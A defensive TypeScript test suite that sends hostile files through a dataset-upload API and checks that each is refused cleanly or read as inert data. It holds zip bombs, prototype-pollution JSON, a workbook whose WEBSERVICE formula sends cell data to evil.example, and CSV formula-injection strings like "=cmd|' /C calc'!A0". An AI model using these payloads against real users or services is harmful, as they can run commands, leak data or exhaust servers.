// Hostile files through the whole upload path (POST /api/datasets → sniff → store → ingest), each from a fresh
// account. A file the product must refuse gets its specific 4xx and message and leaves nothing behind: no
// datasets row, no object in R2. A file that is merely odd but valid data (5,000 columns, formula-looking text,
// `__proto__` keys, macros inside a workbook) is read as plain data and nothing in it runs. Never a 5xx, and the
// Worker answers afterwards.
import { env } from "cloudflare:test";
import { eq } from "drizzle-orm";
import { afterAll, describe, expect, it, vi } from "vitest";
import * as XLSX from "xlsx";
import { zipWith } from "../../engine/read/test-helpers";
import { seededRandom } from "../../engine/random";
import { createDb } from "~/server/db/client.server";
import { datasets } from "~/server/db/schema";
import { UPLOAD_ACCEPT } from "~/lib/dataset-formats";
import { appFetch } from "./helpers";
import { r2Keys, signedInUser, upload, type TestUser } from "./workspace-helpers";

const encode = (text: string) => new TextEncoder().encode(text);

function randomBytes(seed: number, length: number): Uint8Array {
  const next = seededRandom(seed);
  return Uint8Array.from({ length }, () => Math.floor(next() * 256));
}

function workbook(rows: unknown[][], bookType: XLSX.BookType, extra: (wb: XLSX.WorkBook) => void = () => undefined): Uint8Array {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), "Data");
  extra(wb);
  return new Uint8Array(XLSX.write(wb, { type: "array", bookType }) as ArrayBuffer);
}

/**
 * A workbook whose cells are linked to another workbook on a web server, the way Excel stores it: an
 * externalLink part whose relationship targets the URL (TargetMode="External"), listed in workbook.xml, and
 * cells with formulas through it — `[1]Prices!A1`, WEBSERVICE and HYPERLINK — beside their cached values.
 */
function workbookWithExternalLinks(url: string): Uint8Array {
  const ws = XLSX.utils.aoa_to_sheet([["Region", "Units", "Link"], ["North", 3, "x"], ["South", 5, "y"]]);
  ws.B2 = { t: "n", v: 3, f: "[1]Prices!A1" };
  ws.B3 = { t: "n", v: 5, f: `WEBSERVICE("${url}?d="&A3)` };
  ws.C2 = { t: "s", v: "x", f: `HYPERLINK("${url}","x")` };
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, "Data");
  const zip = XLSX.CFB.read(new Uint8Array(XLSX.write(wb, { type: "array", bookType: "xlsx" }) as ArrayBuffer), { type: "array" });
  const text = (path: string) => new TextDecoder().decode(XLSX.CFB.find(zip, path)!.content as Uint8Array);
  const put = (path: string, content: string) => XLSX.CFB.utils.cfb_add(zip, path, encode(content));
  const relNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  put(
    "xl/externalLinks/externalLink1.xml",
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relNs}"><externalBook r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>3</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
  );
  put(
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relNs}/externalLinkPath" Target="${url}" TargetMode="External"/></Relationships>`,
  );
  const rels = text("/xl/_rels/workbook.xml.rels").replace("</Relationships>", `<Relationship Id="rId99" Type="${relNs}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`);
  XLSX.CFB.utils.cfb_add(zip, "xl/_rels/workbook.xml.rels", encode(rels));
  const book = text("/xl/workbook.xml").replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>');
  XLSX.CFB.utils.cfb_add(zip, "xl/workbook.xml", encode(book));
  const types = text("/[Content_Types].xml").replace(
    "</Types>",
    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
  );
  XLSX.CFB.utils.cfb_add(zip, "[Content_Types].xml", encode(types));
  return new Uint8Array(XLSX.CFB.write(zip, { fileType: "zip", type: "array" }) as number[]);
}

async function datasetRows(userId: string) {
  return createDb(env.DB).select().from(datasets).where(eq(datasets.ownerId, userId));
}

interface Refusal {
  status: number;
  message: RegExp;
}

/** Uploads as a new Pro user; a refusal must leave no row and no stored object. Returns the answer's body. */
async function refused(name: string, bytes: Uint8Array | string, expected: Refusal): Promise<void> {
  const user = await signedInUser("pro");
  const res = await upload(user, name, bytes);
  const body = (await res.json()) as { message?: string };
  expect({ status: res.status, message: body.message }, name).toMatchObject({ status: expected.status, message: expect.stringMatching(expected.message) });
  expect(await datasetRows(user.id), `${name}: no datasets row`).toEqual([]);
  expect(await r2Keys(`users/${user.id}/`), `${name}: nothing in R2`).toEqual([]);
}

interface Accepted {
  user: TestUser;
  id: string;
  detail: {
    status: string;
    rowCount: number;
    columnCount: number;
    schema: { columns: { name: string; type: string }[] };
    profile: { preview: unknown[][] | { rows: unknown[][] } };
  };
}

async function accepted(name: string, bytes: Uint8Array | string): Promise<Accepted> {
  const user = await signedInUser("pro");
  const res = await upload(user, name, bytes);
  const body = (await res.json()) as { dataset?: { id: string; status: string }; message?: string };
  expect({ status: res.status, message: body.message }, name).toEqual({ status: 201, message: undefined });
  const id = body.dataset!.id;
  const detail = await appFetch(`/api/datasets/${id}?columnsLimit=1000`, { jar: user.jar });
  expect(detail.status).toBe(200);
  return { user, id, detail: ((await detail.json()) as { dataset: Accepted["detail"] }).dataset };
}

describe("hostile uploads", () => {
  afterAll(async () => {
    const health = await appFetch("/api/health");
    expect(health.status).toBe(200);
  });

  it.each([
    ["noise.csv", /^"noise\.csv" contains binary data, not CSV text\./],
    ["noise.tsv", /^"noise\.tsv" contains binary data, not CSV text\./],
    ["noise.txt", /^"noise\.txt" contains binary data, not CSV text\./],
    ["noise.json", /^"noise\.json" contains binary data, not JSON text\./],
    ["noise.ndjson", /^"noise\.ndjson" contains binary data, not JSON text\./],
    ["noise.jsonl", /^"noise\.jsonl" contains binary data, not JSON text\./],
    ["noise.xlsx", /^"noise\.xlsx" is named like an Excel workbook but its contents are some other binary file\./],
    ["noise.xls", /^"noise\.xls" is named like an Excel 97–2003 workbook but its contents are some other binary file\./],
    ["noise.xlsm", /reads CSV, Excel/],
    ["noise.exe", /reads CSV, Excel/],
  ])("refuses random bytes named %s", async (name, message) => {
    await refused(name, randomBytes(name.length * 7919, 64 * 1024), { status: 415, message });
  });

  it("tries random bytes with every extension the file picker offers", () => {
    // The table above must follow UPLOAD_ACCEPT: a new accepted extension needs its own hostile case.
    expect(UPLOAD_ACCEPT.split(",").sort()).toEqual([".csv", ".json", ".jsonl", ".ndjson", ".tsv", ".txt", ".xls", ".xlsx"]);
  });

  it("refuses a truncated workbook", async () => {
    const whole = workbook([["Region", "Units"], ...Array.from({ length: 500 }, (_, i) => [`R${i}`, i])], "xlsx");
    await refused("truncated.xlsx", whole.slice(0, Math.floor(whole.length / 2)), { status: 422, message: /^The workbook is damaged or incomplete \(it may have been cut off during upload\)/ });
  });

  it("refuses a zip bomb that lies about its size, and one whose declared ratio gives it away", async () => {
    await refused("bomb.xlsx", await zipWith("xl/worksheets/sheet1.xml", new Uint8Array(50 * 1024 * 1024), 1000), { status: 422, message: /zip bomb/ });
    await refused("ratio-bomb.xlsx", await zipWith("xl/worksheets/sheet1.xml", new Uint8Array(1000), 0xf0000000), { status: 422, message: /zip bomb/ });
  });

  it("reads a macro workbook renamed .xlsx as data only (its VBA project is never run)", async () => {
    const bytes = workbook([["Region", "Units"], ["North", 3], ["South", 5]], "xlsm", (wb) => {
      wb.vbaraw = randomBytes(1, 2048);
    });
    const { detail } = await accepted("macros.xlsx", bytes);
    expect(detail.rowCount).toBe(2);
    expect(detail.schema.columns.map((c) => c.name)).toEqual(["Region", "Units"]);
  });

  it("reads a workbook linked to another one on the web as its cached values: nothing is fetched, no formula runs", async () => {
    const url = "https://evil.example/prices.xlsx";
    const bytes = workbookWithExternalLinks(url);
    expect(new TextDecoder().decode(bytes)).toContain(url);
    const fetched = vi.spyOn(globalThis, "fetch");
    const { detail } = await accepted("linked.xlsx", bytes);
    expect(fetched.mock.calls.filter(([input]) => String(input instanceof Request ? input.url : input).includes("evil.example"))).toEqual([]);
    fetched.mockRestore();
    expect([detail.rowCount, detail.schema.columns.map((c) => c.name)]).toEqual([2, ["Region", "Units", "Link"]]);
    expect(JSON.stringify(detail.profile.preview)).not.toContain("evil.example");
  });

  it("refuses a 10 MB single-line CSV of one header cell (no rows), and one of 5 million columns", async () => {
    await refused("one-line.csv", "x".repeat(10_000_000), { status: 422, message: /^The file has column headers but no rows of data under them\.$/ });
    await refused("wide-line.csv", "a,".repeat(5_000_000), { status: 422, message: /^The table has 5,000,000 columns; InsightLab reads at most 10,000\.$/ });
  });

  it("reads 5,000 columns", async () => {
    const header = Array.from({ length: 5000 }, (_, i) => `c${i}`).join(",");
    const row = Array.from({ length: 5000 }, (_, i) => i).join(",");
    const { detail } = await accepted("wide.csv", `${header}\n${row}\n${row}\n`);
    expect(detail.columnCount).toBe(5000);
    expect(detail.rowCount).toBe(2);
  });

  it("reads JSON nested 100,000 deep without overflowing the stack: past eight levels the rest stays JSON text", async () => {
    const arrays = await accepted("deep.json", `${"[".repeat(100_000)}${"]".repeat(100_000)}`);
    expect([arrays.detail.rowCount, arrays.detail.columnCount]).toEqual([1, 1]);
    const objects = await accepted("deep-objects.json", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`);
    expect(objects.detail.schema.columns.map((c) => [c.name, c.type])).toEqual([["a.a.a.a.a.a.a.a", "text"]]);
  });

  it("reads __proto__ and constructor keys as ordinary columns without polluting any prototype", async () => {
    const json =
      '[{"name":"a","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}},' +
      '{"name":"b","__proto__":{"polluted":"yes"},"constructor":"x","prototype":{"polluted":"yes"}}]';
    const { detail } = await accepted("proto.json", json);
    expect(detail.rowCount).toBe(2);
    expect(detail.schema.columns.map((c) => c.name)).toEqual(["name", "__proto__.polluted", "constructor.prototype.polluted", "constructor", "prototype.polluted"]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("reads invalid UTF-8 without failing (bad bytes become replacement characters or Windows-1252)", async () => {
    const bytes = new Uint8Array([...encode("name,units\nCaf"), 0xe9, ...encode(",3\nBad"), 0xff, 0xfe, 0xc3, ...encode(",4\n")]);
    const { detail } = await accepted("latin.csv", bytes);
    expect(detail.rowCount).toBe(2);
  });

  it("stores formula payloads as the text they are, never evaluated", async () => {
    const payloads = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")'];
    const csv = `label\n${payloads.map((p) => `"${p.replaceAll('"', '""')}"`).join("\n")}\n`;
    const { detail } = await accepted("formulas.csv", csv);
    expect(detail.rowCount).toBe(payloads.length);
    expect(JSON.stringify(detail.profile.preview)).toContain(JSON.stringify(payloads[0]).slice(1, -1));
  });
});
